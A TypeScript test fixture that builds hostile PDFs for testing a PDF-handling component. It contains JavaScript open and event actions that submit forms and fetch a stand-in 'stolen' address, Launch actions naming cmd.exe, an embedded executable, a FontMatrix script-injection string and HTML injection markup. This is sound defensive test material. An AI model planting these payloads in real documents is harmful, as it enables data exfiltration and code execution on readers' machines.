import { pdfStream } from '#server/demo/documents/pdf.ts';
import { pdfWith } from './documents.ts';

/** Where a document that calls home would. Nothing may ever ask it. */
const elsewhere = 'http://127.0.0.1:9/stolen';

const script = `<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('${elsewhere}'\\); fetch\\('${elsewhere}'\\)) >>`;
const whole = '/Rect [0 0 595 842] /Border [0 0 0]';
const link = (action: string) => `<< /Type /Annot /Subtype /Link ${whole} /A ${action} >>`;

/** PDFs that want something done, by what that is. Each says its name on its first page, and is otherwise well-formed. */
export const hostilePdfs: Readonly<Record<string, () => Buffer>> = {
  'a script when opened': () => pdfWith(['script'], { catalogue: `/OpenAction ${script}` }),
  'a script for each event': () =>
    pdfWith(['events'], {
      catalogue: `/AA << /WC ${script} /DP ${script} >>`,
      ofPages: `/AA << /O ${script} /C ${script} >>`,
    }),
  'named scripts': () => pdfWith(['names'], { catalogue: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }),
  'a program': () =>
    pdfWith(['launch'], { catalogue: '/OpenAction << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) >> >>' }),
  'an address when opened': () => pdfWith(['address'], { catalogue: `/OpenAction << /S /URI /URI (${elsewhere}) >>` }),
  'a link over all of it': () =>
    pdfWith(['link'], { ofPages: `/Annots [${link(`<< /S /URI /URI (${elsewhere}) >>`)}]` }),
  'a link that is a script': () =>
    pdfWith(['scripted link'], {
      ofPages: `/Annots [${link(`<< /S /URI /URI (javascript:alert\\(document.domain\\)) >>`)}]`,
    }),
  'another document': () =>
    pdfWith(['remote'], { catalogue: `/OpenAction << /S /GoToR /F << /FS /URL /F (${elsewhere}) >> /D [0 /Fit] >>` }),
  'a form that is sent': () =>
    pdfWith(['form'], {
      catalogue: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${elsewhere}) >> >> /AcroForm << /Fields [] /XFA (x) >>`,
    }),
  'an embedded program': () =>
    pdfWith(['embedded'], {
      catalogue:
        '/Names << /EmbeddedFiles << /Names [(evil.exe) << /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >>] >> >>',
      objects: [pdfStream('MZ', '/Type /EmbeddedFile')],
    }),
  'a picture from elsewhere': () =>
    pdfWith(['external'], {
      objects: [
        `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /Length 0 /F << /FS /URL /F (${elsewhere}) >> >>\nstream\n\nendstream`,
      ],
    }),
  'a font with code in it': () =>
    pdfWith(['font'], {
      ofPages: '/Rotate 90',
      objects: [`<< /Type /Font /Subtype /Type1 /FontMatrix [1 2 3 4 5 (0\\); alert\\('font'\\)//)] >>`],
    }),
  'markup as its text': () => pdfWith([`<img src="${elsewhere}" onerror="alert(1)">`]),
  'a page of 200 by 200 inches': () => pdfWith(['huge'], { ofPages: '/MediaBox [0 0 14400 14400]' }),
  'a page of no size': () => pdfWith(['tiny'], { ofPages: '/MediaBox [0 0 0 0]' }),
};
